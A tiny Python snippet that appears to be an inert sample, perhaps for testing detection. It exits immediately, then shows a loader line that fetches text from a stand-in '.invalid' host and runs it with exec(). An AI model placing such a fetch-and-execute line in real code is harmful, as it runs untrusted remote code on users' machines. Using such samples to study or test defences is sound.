raise SystemExit("inert replica")
import requests
exec(requests.get('https://drop.replica.invalid/paste').text)
